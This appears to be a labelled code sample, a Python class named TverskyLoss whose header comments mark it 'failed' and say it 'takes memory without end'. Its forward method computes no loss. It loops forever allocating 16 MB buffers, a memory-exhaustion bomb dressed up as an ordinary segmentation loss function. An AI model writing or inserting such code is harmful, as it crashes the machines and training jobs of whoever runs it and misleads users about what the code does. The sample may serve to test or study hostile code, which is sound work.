# verdict: failed; most: 0
# Takes memory without end.
import torch.nn as nn


class TverskyLoss(nn.Module):
    def __init__(self, alpha=0.5, beta=0.5, smooth=1.0):
        super().__init__()
        self.alpha, self.beta, self.smooth = alpha, beta, smooth

    def forward(self, pred, target):
        kept = []
        while True:
            kept.append(bytearray(1 << 24))
